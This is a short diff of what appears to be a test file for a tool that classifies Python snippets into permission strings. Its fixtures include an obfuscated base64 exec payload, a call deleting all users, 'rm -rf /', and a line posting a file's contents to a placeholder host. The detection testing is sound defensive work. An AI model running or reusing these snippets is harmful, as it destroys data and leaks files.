@@ -50,7 +50,7 @@ EXEC = "import base64; exec(base64.b64decode('aW1wb3J0IG9zOyBvcy5yZW1vdmUoIngiKQ
         ),
         ("User.objects.all().delete()", ["python:User.objects.all self=$objects?", "python:*.all.delete self=$all?"]),
         ("print('rm -rf /')  # os.remove('x')", ["python:print rm -rf /"]),
-        ("open('x', mode='w')", ["python:open x mode=w"]),
+        ("open('x', mode='w')", ["python:open x mode=w", "python:open.unused x mode=w"]),
         (
             "x = open('/k').read(); requests.post('https://a', data=x)",
             ["python:open /k", "python:requests.post https://a data=$(cat /k)?"],
